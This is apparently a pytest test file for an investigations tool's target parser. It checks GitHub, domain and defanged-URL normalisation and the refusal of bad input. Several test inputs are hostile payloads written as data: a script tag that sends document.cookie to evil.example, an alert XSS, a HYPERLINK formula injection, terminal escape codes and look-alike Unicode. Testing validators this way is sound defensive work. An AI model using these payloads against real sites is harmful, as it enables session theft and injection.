import pytest

from investigations.targets import (
    ParsedTarget,
    TargetError,
    excerpt,
    parse_target,
    parse_targets,
)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("github:octocat", ParsedTarget("github", "octocat")),
        ("github:OctoCat", ParsedTarget("github", "octocat")),
        ("  GitHub:@nvie  ", ParsedTarget("github", "nvie")),
        ("github-org:BeaverSoftware", ParsedTarget("github-org", "beaversoftware")),
        ("github-repo:PyGithub/PyGithub", ParsedTarget("github-repo", "pygithub/pygithub")),
        ("github-repo:owner/name.git", ParsedTarget("github-repo", "owner/name")),
        ("github-repo:a/.github", ParsedTarget("github-repo", "a/.github")),
        ("https://github.com/jacquev6", ParsedTarget("github", "jacquev6")),
        (
            "https://github.com/PyGithub/PyGithub/issues",
            ParsedTarget("github-repo", "pygithub/pygithub"),
        ),
        ("github.com/nvie/gitflow", ParsedTarget("github-repo", "nvie/gitflow")),
    ],
)
def test_valid_targets_are_normalised(text, expected):
    assert parse_target(text) == expected


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "empty"),
        ("github:", "empty"),
        ("github:-leading-hyphen", "not a GitHub user login"),
        ("github:" + "a" * 40, "at most 39"),
        ("github:<script>alert(1)</script>", "not a GitHub user login"),
        ("github:bad name", "not a GitHub user login"),
        ("github:nul\x00byte", "control or invisible"),
        ("github:zero\u200bwidth", "control or invisible"),
        ("github:a\u202eb", "control or invisible"),
        ("github-repo:justone", "not OWNER/NAME"),
        ("github-repo:a/b/c", "not OWNER/NAME"),
        ("github-repo:owner/..", "not a GitHub repository name"),
        ('github-repo:owner/=HYPERLINK("x")', "not a GitHub repository name"),
        ("x" * 600, "at most 512"),
        ("octocat", "has no kind"),
    ],
)
def test_bad_and_hostile_targets_are_refused_with_a_reason(text, message):
    with pytest.raises(TargetError, match=message):
        parse_target(text)


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("hxxp://127[.]0[.]0[.]1/", "127.0.0.1"),
        ("127.0.0.1", "127.0.0.1"),
        ("10.0.0.1:8080", "10.0.0.1"),
        ("2001:db8::1", "2001:db8::1"),
        ("[::1]", "::1"),
        ("https://[2001:DB8::1]:8443/x", "2001:db8::1"),
    ],
)
def test_a_bare_ip_address_is_refused_as_an_ip_address_rather_than_for_lacking_a_kind(
    text, address
):
    with pytest.raises(TargetError) as caught:
        parse_target(text)

    message = str(caught.value)
    assert f"is an IP address ({address}); IP addresses are not a target kind" in message
    assert "has no kind" not in message
    assert "domain:example.com" in message


def test_an_unknown_kind_lists_the_kinds_that_exist():
    with pytest.raises(TargetError) as caught:
        parse_target("octocat")

    assert "github:LOGIN" in str(caught.value)
    assert "github-repo:OWNER/NAME" in str(caught.value)


def test_error_messages_show_only_a_short_printable_excerpt():
    with pytest.raises(TargetError) as caught:
        parse_target("<" * 200)

    assert str(caught.value).count("<") == 60
    assert "…" in str(caught.value)


@pytest.mark.parametrize(
    "text",
    [
        "username:caf\ufffd",
        "mastodon:caf\ufffd@example.social",
        "mastodon:alice@caf\ufffd.social",
        "bluesky:caf\ufffd.bsky.social",
        "domain:caf\ufffd.example",
        "caf\ufffd.example",
        "github:caf\ufffd",
        "github-org:caf\ufffd",
        "github-repo:owner/caf\ufffd",
    ],
)
def test_a_target_holding_bytes_that_were_not_utf8_is_refused_whatever_its_kind(text):
    with pytest.raises(TargetError) as caught:
        parse_target(text)

    assert str(caught.value) == (
        f"'{text}' holds bytes that are not valid text (shown as U+FFFD); save the list as "
        "UTF-8 and give it again."
    )


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("evil\x1b[31mred", "evil\\x1b[31mred"),
        ("nul\x00", "nul\\x00"),
        ("a\u202eb\u200bc", "a\\u202eb\\u200bc"),
        ("lone\udcff", "lone\\udcff"),
        ("line\nbreak\ttab", "line\\nbreak\\ttab"),
        ("Küche <b>", "Küche <b>"),
    ],
)
def test_excerpts_show_characters_that_do_not_print_as_escapes(text, shown):
    assert excerpt(text) == shown


def test_a_refused_input_is_reported_with_its_control_characters_escaped():
    _, errors = parse_targets(["username:evil\x1b[31mred"])

    assert errors == [
        (
            "username:evil\\x1b[31mred",
            "'username:evil\\x1b[31mred' contains control or invisible characters.",
        )
    ]


def test_many_targets_are_deduplicated_and_bad_ones_reported_each():
    parsed, errors = parse_targets(["github:nvie", "GITHUB:NVIE", "github:-x", "nonsense"])

    assert parsed == [ParsedTarget("github", "nvie")]
    assert [text for text, _ in errors] == ["github:-x", "nonsense"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("https://github.com/orgs/acme", ParsedTarget("github-org", "acme")),
        ("https://github.com/orgs/Acme/people", ParsedTarget("github-org", "acme")),
        ("github.com/organizations/acme/settings", ParsedTarget("github-org", "acme")),
        ("https://github.com/users/nvie/projects/1", ParsedTarget("github", "nvie")),
        ("\ufeffgithub:nvie", ParsedTarget("github", "nvie")),
        # Defanged, as threat reports write them: the same accounts, not a domain.
        ("hxxps://github[.]com/jacquev6", ParsedTarget("github", "jacquev6")),
        ("hxxps[://]github[.]com/orgs/acme", ParsedTarget("github-org", "acme")),
        ("github(dot)com/nvie/gitflow", ParsedTarget("github-repo", "nvie/gitflow")),
        ("hxxp://www[.]github[.]com/nvie", ParsedTarget("github", "nvie")),
        ("hxxps://github[.]com", ParsedTarget("domain", "github.com")),
    ],
)
def test_github_addresses_name_the_account_they_show(text, expected):
    assert parse_target(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "https://github.com/settings/profile",
        "https://github.com/sponsors/nvie",
        "github.com/marketplace/actions/checkout",
        "https://github.com/topics/osint",
        "https://github.com/notifications",
        "https://github.com/explore",
    ],
)
def test_github_pages_of_its_own_are_not_taken_for_accounts(text):
    with pytest.raises(TargetError, match=r"is a page of GitHub's own \(github.com/\w+\)"):
        parse_target(text)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("github:settings", r"GitHub keeps that name for its own pages \(github.com/settings\)"),
        ("github-org:orgs", "GitHub keeps that name"),
        ("github-repo:new/thing", "'new' is not a GitHub owner login"),
    ],
)
def test_github_reserved_names_are_refused_as_logins(text, message):
    with pytest.raises(TargetError, match=message):
        parse_target(text)


def test_an_unknown_kind_is_named_and_the_kinds_are_listed():
    with pytest.raises(TargetError) as caught:
        parse_target("twitter:foo")

    message = str(caught.value)
    assert "unknown kind 'twitter'" in message
    assert "github:LOGIN" in message and "has no kind" not in message


@pytest.mark.parametrize("text", ["github:\u212aelvin", "github-org:\u212acme", "GitHub:ſam"])
def test_github_logins_with_look_alike_letters_are_refused_not_folded(text):
    with pytest.raises(TargetError, match=r"characters outside ASCII \(U\+"):
        parse_target(text)


def test_a_repository_name_with_a_look_alike_letter_is_refused():
    with pytest.raises(TargetError, match=r"outside ASCII \(U\+212A\)"):
        parse_target("github-repo:nvie/\u212aelvin")


def test_the_character_set_of_a_login_is_checked_before_its_length():
    with pytest.raises(TargetError) as caught:
        parse_target("github:<script>fetch('//evil.example/'+document.cookie)</script>")

    assert "use letters, digits and hyphens" in str(caught.value)
    assert "at most 39" not in str(caught.value)


@pytest.mark.parametrize("text", ["mailto:a@b.c", "MAILTO:a@b.c/x", "alice@example.com"])
def test_an_email_address_is_refused_as_such_and_not_taken_for_a_domain(text):
    with pytest.raises(TargetError, match="is an e-mail address, which is not a target kind"):
        parse_target(text)


def test_a_host_with_a_port_is_still_a_domain_and_not_an_unknown_kind():
    assert parse_target("example.com:8080") == ParsedTarget("domain", "example.com")


def test_a_domain_target_is_stored_as_its_a_label_and_shown_in_unicode():
    from investigations.targets import shown_as

    target = parse_target("domain:Küche.de")

    assert str(target) == "domain:xn--kche-0ra.de"
    assert shown_as(target.kind, target.value) == "domain:küche.de"
    assert shown_as("github", "nvie") == "github:nvie"
